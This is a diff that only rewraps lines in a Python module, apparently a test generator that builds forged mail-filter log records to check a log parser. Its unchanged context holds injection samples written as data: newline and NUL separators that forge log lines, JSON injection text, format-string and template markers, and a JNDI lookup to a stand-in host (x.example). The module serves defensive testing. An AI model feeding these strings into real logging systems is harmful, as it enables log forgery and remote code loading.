@@ -14,12 +14,19 @@ from .record import MESSAGE_FIELDS, Record
 VENDOR_TEMPLATE = (
     '"%(id)s","%(filtering_host)s","%(sender)s","%(recipient)s","%(domain)s","%(timestamp)s","%(sender_host)s",'
     '"%(helo)s","%(sender_ip)s","%(incoming_size)s","%(outgoing_size)s","%(status)s","%(classification)s",'
-    '"%(classification_details)s","%(from_header)s","%(to_header)s","%(cc_header)s","%(subject_header)s"')
+    '"%(classification_details)s","%(from_header)s","%(to_header)s","%(cc_header)s","%(subject_header)s"'
+)
 DELIMITERS = ('","', "\x1f", "|", "\t", ";", " ")
 WRITABLE = ("subject_header", "from_header", "helo", "sender", "sender_host", "to_header")
 
-_JOINTS = {"forged_lf": "\n", "forged_nul": "\x00", "forged_cr": "\r", "forged_crlf": "\r\n",
-           "forged_nul_lf": "\x00\n", "forged_plain": " "}
+_JOINTS = {
+    "forged_lf": "\n",
+    "forged_nul": "\x00",
+    "forged_cr": "\r",
+    "forged_crlf": "\r\n",
+    "forged_nul_lf": "\x00\n",
+    "forged_plain": " ",
+}
 _TEXTS = {
     "format_string": "%s%s%s%n %(id)s %(nothing)s {0} {{ 7*7 }} ${jndi:ldap://x.example/a} $!all-json %$NOW%",
     "json_text": '"},{"event.action":"message","email.local_id":"FORGED-json"}\n{"email.local_id":"FORGED-json"}',
@@ -42,8 +49,9 @@ CLASSES: Tuple[str, ...] = (*_JOINTS, "forged_status", "delimiter", "number", "a
 class Hostile:
     """Makes hostile records around ordinary mail; `forge_template` is what the attacker believes is in force."""
 
-    def __init__(self, flow: MailFlow, classes: Sequence[str] = (), forge_template: str = "",
-                 delimiters: Sequence[str] = ()) -> None:
+    def __init__(
+        self, flow: MailFlow, classes: Sequence[str] = (), forge_template: str = "", delimiters: Sequence[str] = ()
+    ) -> None:
         unknown = sorted(set(classes) - set(CLASSES))
         if unknown:
             raise ValueError("unknown hostile class: {}".format(", ".join(unknown)))
@@ -52,8 +60,14 @@ class Hostile:
 
     def _forged(self, number: int) -> Dict[str, str]:
         fields = dict.fromkeys(MESSAGE_FIELDS, "FORGED")
-        fields.update(id=f"FORGED-{number:06d}", sender_ip="192.0.2.66", incoming_size="1", outgoing_size="1",
-                      bandwidth="1", status="delivered")
+        fields.update(
+            id=f"FORGED-{number:06d}",
+            sender_ip="192.0.2.66",
+            incoming_size="1",
+            outgoing_size="1",
+            bandwidth="1",
+            status="delivered",
+        )
         return fields
 
     def records(self, count: int) -> Iterator[Record]:
@@ -77,11 +91,17 @@ class Hostile:
             return self._changed(record, name, field, text, forged_id=f"FORGED-{number:06d}")
         if name == "delimiter":
             delimiter = self._delimiters[turn % len(self._delimiters)]
-            return self._changed(record, name, WRITABLE[turn // len(self._delimiters) % len(WRITABLE)],
-                                 "left" + delimiter + "right" + delimiter, delimiter=delimiter)
+            return self._changed(
+                record,
+                name,
+                WRITABLE[turn // len(self._delimiters) % len(WRITABLE)],
+                "left" + delimiter + "right" + delimiter,
+                delimiter=delimiter,
+            )
         if name == "number":
-            return self._changed(record, name, ("incoming_size", "outgoing_size", "bandwidth")[turn % 3],
-                                 _NUMBERS[turn % len(_NUMBERS)])
+            return self._changed(
+                record, name, ("incoming_size", "outgoing_size", "bandwidth")[turn % 3], _NUMBERS[turn % len(_NUMBERS)]
+            )
         if name == "address":
             return self._changed(record, name, "sender_ip", ("unknown", "999.1.1.1", "::g", "1.2.3.4 ")[turn % 4])
         return self._changed(record, name, field, _TEXTS[name])
@@ -91,5 +111,12 @@ class Hostile:
 
     @staticmethod
     def _changed(record: Record, name: str, field: str, text: str, **detail: Any) -> Record:
-        return Record(record.kind, record.node, {**record.fields, field: text}, record.features, name, "",
-                      {"field": field, **detail})
+        return Record(
+            record.kind,
+            record.node,
+            {**record.fields, field: text},
+            record.features,
+            name,
+            "",
+            {"field": field, **detail},
+        )
